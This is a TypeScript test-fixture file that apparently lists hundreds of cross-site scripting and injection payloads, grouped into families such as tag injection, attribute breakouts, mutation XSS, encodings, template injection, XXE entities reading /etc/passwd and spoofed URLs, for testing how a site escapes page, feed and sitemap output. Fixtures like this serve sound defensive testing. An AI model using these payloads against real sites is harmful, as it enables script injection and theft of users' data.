// biome-ignore-all lint/suspicious/noTemplateCurlyInString: some of them are just that.
/**
 * Texts that try to become more than text in a page, a feed or a sitemap: at least 200, in families.
 * Whatever would run calls `pwned()` or asks a host under `pwned.invalid`; every element that would come
 * to be is named or marked `pwned`, so that a test can tell it from the site's own.
 */
export const injections: readonly string[] = [
  ...inTags(),
  ...inAttributes(),
  ...outOfContexts(),
  ...mutations(),
  ...encodings(),
  ...templates(),
  ...oddities(),
];

/** Addresses that must be refused, or lead nowhere but to where they say. */
export const addressInjections: readonly string[] = addresses();

function inTags(): string[] {
  const elements = [
    '<script>pwned()</script>',
    '<script src=//pwned.invalid/a.js></script>',
    '<script type=module>pwned()</script>',
    '<script/src=data:,pwned()></script>',
    '<SCRIPT>pwned()</SCRIPT>',
    '<scr<script>ipt>pwned()</scr</script>ipt>',
    '<script\n>pwned()</script\n>',
    '<script x>pwned()</script x>',
    '<iframe src=javascript:pwned()></iframe>',
    '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
    '<object data=javascript:pwned()></object>',
    '<object data=//pwned.invalid/x></object>',
    '<embed src=//pwned.invalid/x>',
    '<base href=//pwned.invalid/>',
    '<link rel=stylesheet href=//pwned.invalid/x.css>',
    '<link rel=prefetch href=//pwned.invalid/x>',
    '<meta http-equiv=refresh content="0;url=//pwned.invalid/">',
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    '<style>@import "//pwned.invalid/x.css";</style>',
    '<style>body{background:url(//pwned.invalid/x)}</style>',
    '<form action=//pwned.invalid/><input name=pwned><button>go</button></form>',
    '<input autofocus onfocus=pwned()>',
    '<button formaction=javascript:pwned()>go</button>',
    '<isindex action=javascript:pwned()>',
    '<template id=pwned><script>pwned()</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
    '<dialog open id=pwned>x</dialog>',
    '<frameset onload=pwned()><frame></frameset>',
    '<applet code=pwned></applet>',
    '<portal src=//pwned.invalid/></portal>',
    '<fencedframe src=//pwned.invalid/></fencedframe>',
    '<x-pwned onclick=pwned()>x</x-pwned>',
    '<plaintext>pwned',
    '<xmp><script>pwned()</script></xmp>',
    '<listing>&lt;script&gt;pwned()</listing>',
    '<marquee onstart=pwned()>x</marquee>',
    '<bgsound src=//pwned.invalid/x>',
    '<keygen autofocus onfocus=pwned()>',
    '<body onload=pwned()>',
    '<html onmouseover=pwned()>',
  ];
  const events = [
    'onerror',
    'onload',
    'onclick',
    'onmouseover',
    'onfocus',
    'onanimationstart',
    'ontoggle',
    'onpointerenter',
    'onwheel',
    'onbeforetoggle',
    'oncontentvisibilityautostatechange',
    'onscrollend',
  ];
  const carriers = ['img src=x', 'svg', 'video src=x', 'details open', 'audio src=x'];
  const handled = carriers.flatMap((carrier) => events.map((on) => `<${carrier} ${on}=pwned()>`));
  return [...elements, ...handled];
}

function inAttributes(): string[] {
  return ['"', "'", '`', '&quot;', '&#34;', '&#x27;'].flatMap((quote) => [
    `${quote}><script>pwned()</script>`,
    `${quote} onmouseover=pwned() x=${quote}`,
    `${quote} autofocus onfocus=${quote}pwned()`,
    `${quote}/><svg/onload=pwned()>`,
    `${quote} style=${quote}background:url(//pwned.invalid/x)`,
    `${quote} srcset=${quote}//pwned.invalid/x 1x`,
  ]);
}

function outOfContexts(): string[] {
  const closers = [
    '</script>',
    '</style>',
    '</title>',
    '</textarea>',
    '</noscript>',
    '</template>',
    '</svg>',
    '</math>',
    '</article></main></body></html>',
    '-->',
    '--!>',
    ']]>',
    '?>',
    '*/',
    '</iframe>',
    '</xmp>',
    '</select>',
  ];
  const xml = [
    '<![CDATA[<script>pwned()</script>]]>',
    ']]><script>pwned()</script><![CDATA[',
    ']]]]><![CDATA[>',
    '<!DOCTYPE x [<!ENTITY pwned SYSTEM "file:///etc/passwd">]>&pwned;',
    '<!ENTITY % pwned SYSTEM "//pwned.invalid/x.dtd">%pwned;',
    '</title></item></channel></rss><script>pwned()</script>',
    '</description><pwned>x</pwned><description>',
    '</loc></url></urlset><pwned/>',
    '<?xml-stylesheet href="javascript:pwned()"?>',
    '<?php pwned() ?>',
    '&pwned;',
    '&#0;&#xD800;&#x110000;',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">pwned()</x:script>',
  ];
  const json = [
    '</script><script>pwned()</script>',
    '"}</script><script>pwned()</script><script>{"',
    '","@type":"Person","name":"pwned',
    '\\"},"pwned":{"x":"',
    '<!--<script>',
    '\\u003c/script\\u003e\\u003cscript\\u003epwned()\\u003c/script\\u003e',
  ];
  return [...closers.map((closer) => `${closer}<img src=x onerror=pwned()>`), ...xml, ...json];
}

function mutations(): string[] {
  return [
    '<svg><style><img src=x onerror=pwned()></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned()&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror=pwned()>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
    '<svg><a xlink:href="javascript:pwned()"><text>x</text></a></svg>',
    '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
    '<svg><set attributeName=href to=javascript:pwned()>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned()>#x">',
    '<svg><foreignObject><iframe src=javascript:pwned()></iframe></foreignObject></svg>',
    '<svg><script>pwned()</script></svg>',
    '<svg><script href=//pwned.invalid/a.js /></svg>',
    '<math href=javascript:pwned()>x</math>',
    '<math><maction actiontype=statusline xlink:href=javascript:pwned()>x</maction></math>',
    '<table><tr><td><script>pwned()</script>',
    '<a href="x" id="</a><img src=x onerror=pwned()>">',
    '<p id="&lt;/p&gt;&lt;img src=x onerror=pwned()&gt;">',
    '<img src="`><img src=x onerror=pwned()>`">',
    '<select><template><script>pwned()</script></template></select>',
    '<a id=pwned><a id=pwned name=attributes>',
    '<form id=pwned><input name=parentNode><input id=attributes></form>',
    '<img name=getElementById><img name=cookie>',
  ];
}

function encodings(): string[] {
  return [
    '&lt;script&gt;pwned()&lt;/script&gt;',
    '&#60;script&#62;pwned()&#60;/script&#62;',
    '&#x3c;img src=x onerror=pwned()&#x3e;',
    '&amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;',
    '%3Cscript%3Epwned()%3C/script%3E',
    '%253Cscript%253Epwned()%253C/script%253E',
    '\\x3cscript\\x3epwned()\\x3c/script\\x3e',
    '\\u003cimg src=x onerror=pwned()\\u003e',
    '\uFF1Cscript\uFF1Epwned()\uFF1C/script\uFF1E',
    '\u02C2script\u02C3pwned()\u02C2/script\u02C3',
    '+ADw-script+AD4-pwned()+ADw-/script+AD4-',
    '<\u200Bscript>pwned()</script>',
    '<scr\u00ADipt>pwned()</scr\u00ADipt>',
    '<\u017Fcript>pwned()</\u017Fcript>',
    '<\u0131mg src=x onerror=pwned()>',
    'a\u2028<script>pwned()</script>\u2029b',
    '\u2028pwned()//',
    '\uFEFF<script>pwned()</script>',
    '&lt&#115;cript&gt',
    '&Tab;javascript&colon;pwned()',
  ];
}

function templates(): string[] {
  return [
    '${pwned()}',
    '`${pwned()}`',
    '{{pwned()}}',
    '{{constructor.constructor("pwned()")()}}',
    '{pwned()}',
    '<%= pwned() %>',
    '#{pwned()}',
    '[[${pwned()}]]',
    '@(pwned())',
    '{% pwned %}',
    '{{{pwned()}}}',
    '*{pwned()}',
    '$pwned',
    '$&',
    '$`',
    "$'",
    '$1$$',
    '%s%n%x',
    '{0}',
    '[pwned](javascript:pwned())',
    '![x](//pwned.invalid/x)',
    '`<script>pwned()</script>`',
    '---\nlayout: pwned\n---',
    '<Fragment set:html="<script>pwned()</script>" />',
    '<astro-island client="load" component-url="//pwned.invalid/x.js"></astro-island>',
    "');pwned();//",
    '";pwned();//',
    '\\";pwned();//',
    '*/pwned()/*',
    'expression(pwned())',
    'behavior:url(//pwned.invalid/x)',
  ];
}

function oddities(): string[] {
  return [
    '\u202E<script>pwned()</script>',
    '\u2066"><img src=x onerror=pwned()>\u2069',
    '\u200F</title><script>pwned()</script>',
    '<script>\u0338pwned()</script>\u0338',
    '<img src=x onerror\u0338=pwned()>',
    '아미산<script>pwned()</script>자동차',
    '<img\tsrc=x\tonerror=pwned()>',
    '<img\fsrc=x\fonerror=pwned()>',
    '<img/src=x/onerror=pwned()>',
    '<<script>pwned()//<</script>',
    '< script>pwned()</ script>',
    '<script',
    '<img src=x onerror=pwned()',
    '<!--',
    '<![',
    '</',
    '<>',
    '<?',
    '&',
    '&#',
    '&#x',
    '"',
    "'",
    '<!-- pwned --!><img src=x onerror=pwned()>',
    `${'<b>'.repeat(20)}<script>pwned()</script>`,
  ];
}

function addresses(): string[] {
  const schemes = [
    'javascript:pwned()',
    'JaVaScRiPt:pwned()',
    'vbscript:pwned()',
    'data:text/html,<script>pwned()</script>',
    'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+',
    'data:image/svg+xml,<svg onload=pwned()>',
    'blob:https://pwned.invalid/x',
    'file:///etc/passwd',
    'about:blank',
    'view-source:https://pwned.invalid/',
    'feed:javascript:pwned()',
    'jar:https://pwned.invalid!/x',
  ];
  const hiding = [
    '\u2028',
    '\u2029',
    '\u200B',
    '\u00A0',
    '\u0001',
    '\t',
    '\n',
    '\r',
    ' ',
    '\uFEFF',
    '\u202E',
    '\u00AD',
  ];
  const hidden = hiding.flatMap((sign) => [
    `${sign}javascript:pwned()`,
    `java${sign}script:pwned()`,
    `javascript${sign}:pwned()`,
  ]);
  const hosts = [
    '//pwned.invalid/',
    '/\\pwned.invalid/',
    '\\\\pwned.invalid\\',
    '/\t/pwned.invalid/',
    '/.//pwned.invalid/',
    'https:pwned.invalid',
    'https:/pwned.invalid',
    'https://known.example@pwned.invalid/',
    'https://known.example\\@pwned.invalid/',
    'http://[::1',
    'https://',
    '&#106;avascript:pwned()',
    'javascript&colon;pwned()',
    '%6aavascript:pwned()',
    'javascript%3Apwned()',
  ];
  const breaking = [
    'https://known.example/"><script>pwned()</script>',
    "https://known.example/'onmouseover=pwned()",
    'https://known.example/`${pwned()}`',
    'https://known.example/<script>pwned()</script>',
    'https://known.example/?a=</loc><pwned/>',
    'https://known.example/]]><pwned/>',
    'https://known.example/#"onload=pwned()',
  ];
  return [...schemes, ...hidden, ...hosts, ...breaking];
}
